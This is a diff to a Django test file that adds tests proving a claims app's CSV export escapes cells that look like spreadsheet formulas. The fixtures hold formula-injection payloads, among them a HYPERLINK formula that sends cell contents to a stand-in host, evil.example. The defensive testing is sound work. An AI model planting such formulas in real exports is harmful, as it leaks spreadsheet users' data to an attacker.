@@ -9,7 +9,7 @@ from rest_framework.test import APIClient
 
 from claims.models import Claim, ClaimLink
 from claims.ratings import Status
-from claims.views import CSV_COLUMNS, _written_csv
+from claims.views import CSV_COLUMNS, _written_csv, csv_rows
 from tests.factories import (
     ClaimFactory,
     ClaimLinkFactory,
@@ -429,12 +429,19 @@ def test_copy_export_has_the_values_pythons_csv_writer_gives(api):
     )
     FigureClaimFactory(value=Decimal("1.5"), unit="it's", rationale="")
     ClaimFactory(claimed_on=None, speaker_role="")
-    queryset = Claim.objects.order_by("id").values_list(*CSV_COLUMNS)
-    written = list(csv.DictReader(io.StringIO("".join(_written_csv(queryset)))))
+    formula_claim(value=Decimal("-5"), quote="''+1")
+    queryset = csv_rows(Claim.objects.order_by("id"))
+    written = list(
+        csv.DictReader(io.StringIO("".join(_written_csv(queryset)), newline=""))
+    )
 
     copied = b"".join(api.get(CLAIMS, {"format": "csv"}).streaming_content)
 
-    rows = list(csv.DictReader(io.StringIO(copied.decode())))
+    rows = list(csv.DictReader(io.StringIO(copied.decode(), newline="")))
+    assert rows[-1]["text"] == "'" + FORMULA_CELLS["text"]
+    assert rows[-1]["rationale"] == "'\r=1"
+    assert rows[-1]["quote"] == "'''+1"
+    assert rows[-1]["value"] == "-5.000000"
     times = {"created_at", "updated_at"}
     assert [{k: v for k, v in r.items() if k not in times} for r in rows] == [
         {k: v for k, v in r.items() if k not in times} for r in written
@@ -444,6 +451,73 @@ def test_copy_export_has_the_values_pythons_csv_writer_gives(api):
             assert datetime.datetime.fromisoformat(
                 row[name]
             ) == datetime.datetime.fromisoformat(expected[name])
+
+
+FORMULA_CELLS = {
+    "text": '=HYPERLINK("http://evil.example/?x="&A1)',
+    "quote": "+1+1",
+    "speaker_role": "-2+3",
+    "unit": "@SUM(A1)",
+    "period_label": "\t=1",
+    "editor_note": "\r=1",
+    "rationale": "\r=2",
+}
+
+
+def formula_claim(**overrides):
+    """Return a claim whose every free-text export cell starts like a formula."""
+    document = DocumentFactory(
+        title="=1+2", publisher=PublisherFactory(name="@publisher")
+    )
+    return FigureClaimFactory(
+        document=document,
+        speaker=PersonFactory(name="-Speaker"),
+        metric=MetricFactory(slug="-trade"),
+        status=Status.DISPUTED,  # a verdict, so that it has a rationale
+        **(FORMULA_CELLS | overrides),
+    )
+
+
+def test_csv_export_writes_cells_starting_like_a_formula_as_text(api):
+    claim = formula_claim(value=Decimal("-5"))
+
+    content = b"".join(api.get(CLAIMS, {"format": "csv"}).streaming_content)
+
+    (row,) = csv.DictReader(io.StringIO(content.decode(), newline=""))
+    for name, text in FORMULA_CELLS.items():
+        assert row[name] == f"'{text}", name
+    assert row["document__title"] == "'=1+2"
+    assert row["document__publisher__name"] == "'@publisher"
+    assert row["speaker__name"] == "'-Speaker"
+    assert row["metric__slug"] == "'-trade"
+    # Numbers stay numbers: only text cells are quoted.
+    assert Decimal(row["value"]) == Decimal("-5")
+    assert row["id"] == str(claim.pk)
+
+
+def test_csv_export_adds_an_apostrophe_to_apostrophes_before_a_formula(api):
+    FigureClaimFactory(text="'=1", quote="''-1", period_label="'quoted'")
+
+    content = b"".join(api.get(CLAIMS, {"format": "csv"}).streaming_content)
+
+    (row,) = csv.DictReader(io.StringIO(content.decode(), newline=""))
+    # So that reading strips one apostrophe and gets the text back.
+    assert (row["text"], row["quote"]) == ("''=1", "'''-1")
+    assert row["period_label"] == "'quoted'"
+
+
+def test_csv_export_leaves_other_text_as_it_is(api):
+    FigureClaimFactory(
+        text="Trade = 5, said -- someone", quote=" =1", period_label="5-6"
+    )
+
+    content = b"".join(api.get(CLAIMS, {"format": "csv"}).streaming_content)
+
+    (row,) = csv.DictReader(io.StringIO(content.decode(), newline=""))
+    assert row["text"] == "Trade = 5, said -- someone"
+    assert row["quote"] == " =1"
+    assert row["period_label"] == "5-6"
+    assert row["speaker__name"] == ""  # no speaker
 
 
 def test_csv_export_quotes_filter_values_it_writes_into_the_query(api):
